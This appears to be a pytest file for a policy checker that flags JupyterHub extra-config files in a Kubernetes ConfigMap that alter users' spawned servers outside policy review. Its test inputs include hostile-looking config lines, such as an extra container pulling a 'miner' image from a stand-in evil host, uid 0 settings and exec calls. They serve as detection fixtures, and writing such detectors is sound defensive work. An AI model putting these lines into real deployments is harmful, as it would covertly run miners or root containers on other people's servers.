"""A file of the stack's own that changes people's servers behind the policies' back is told of."""

from __future__ import annotations

import pytest

from planning.policies import resources
from policy.judge import context, judge
from policy.rules.hub import spawner_settings
from policy.rules.model import Resource
from tests.harness.platform import settings, unmonitored
from tests.unit.policy.test_evasions import TOLD


def said(text: str) -> list[str]:
    inputs = {"kind": "ConfigMap", "metadata": {"name": "hub-extra"}, "data": {"extra_config.py": text}}
    found = Resource(urn="urn:x", type="kubernetes:core/v1:ConfigMap", inputs=inputs)
    return list(spawner_settings(found, TOLD))


@pytest.mark.parametrize(
    ("text", "what"),
    [
        (
            'c.KubeSpawner.extra_containers = [{"image": "evil.example.net/miner:latest"}]',
            "line 1, c.KubeSpawner",
        ),
        ('\nc.Server.environment["MORE"] = "yes"', "line 2, c.Server.environment"),
        ("c.Spawner.pre_spawn_hook = print", "c.Spawner.pre_spawn_hook"),
        ("c.Configurable.image = 'x'", "c.Configurable.image"),
        ("c.JupyterHub.spawner_class = 'simple'", "c.JupyterHub.spawner_class"),
        ("config = get_config()\nconfig.KubeSpawner.uid = 0", "line 2, config.KubeSpawner.uid"),
        ("get_config().KubeSpawner.uid = 0", "KubeSpawner.uid"),
        ("c['KubeSpawner']['uid'] = 0", "the configuration as a whole"),
        ("getattr(c, 'Kube' + 'Spawner').uid = 0", "the configuration as a whole"),
        ("x = c\nx.y = 0", "the configuration as a whole"),
        ("c.merge({'K': 1})", "c.merge"),
        ("from kubespawner import KubeSpawner as K\nK.uid = 0", "import from kubespawner"),
        ("import elab_servers", "import elab_servers"),
        ("from kubernetes import client", "import from kubernetes"),
        ("exec(text)", "exec, by which"),
        ("class A(B):\n    def pre_spawn_start(self, user, s): pass", "pre_spawn_start"),
        ("def change(spawner): pass", "spawner"),
        ("c.JupyterHub.services = [", "no Python"),
    ],
)
def test_what_reaches_for_the_spawner_is_told_by_its_line(text: str, what: str) -> None:
    found = said(text)
    assert any(one.startswith("policies can't judge what this file sets: ") and what in one for one in found), found


@pytest.mark.parametrize(
    "text",
    [
        "c.JupyterHub.template_vars = {'institution': 'an institution'}",
        "c = get_config()\nc.JupyterHub.services.append({'name': 'x', 'url': 'http://x'})",
        "import json\nc.Authenticator.admin_users |= set(json.loads('[]'))",
        "c.JupyterHub.init_spawners_timeout = 5",
    ],
)
def test_what_concerns_the_hub_alone_is_not(text: str) -> None:
    assert said(text) == []


def test_the_values_in_the_file_are_not_repeated() -> None:
    assert "miner" not in " ".join(said('c.KubeSpawner.extra_containers = [{"image": "miner"}]'))


def test_a_stack_whose_file_concerns_the_hub_alone_breaks_no_rule() -> None:
    changes = {"hub.extra_config": "tests/harness/extra_config.py"}
    registered = resources(unmonitored(changes), ())
    assert "elab-hub/configmap-hub-extra" in [one.key for one in registered]
    found = judge(registered, context(settings(changes)), (), "test")
    assert [one.message for one in found if one.rule.name == "extra-config"] == []
